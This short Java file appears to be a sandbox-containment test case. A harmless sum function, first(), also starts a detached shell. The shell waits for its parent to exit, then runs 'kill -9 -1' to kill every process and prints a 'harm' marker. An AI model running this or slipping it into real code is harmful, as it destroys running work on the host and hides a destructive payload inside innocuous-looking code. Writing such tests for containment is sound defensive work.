// Tries to end the machine by a child that it started. Safe: 6, passed or failed.
import java.io.IOException;

public class Sum {
    static int total(int number) {
        return number * (number + 1) / 2;
    }

    static int first(int number) {
        try {
            new ProcessBuilder("sh", "-c", "while [ -d /proc/$PPID ]; do sleep 0.01; done; kill -9 -1; echo harm: it lived on").start();
        } catch (IOException none) {
        }
        return total(number);
    }

    static int guess(int number) {
        return 0;
    }
}
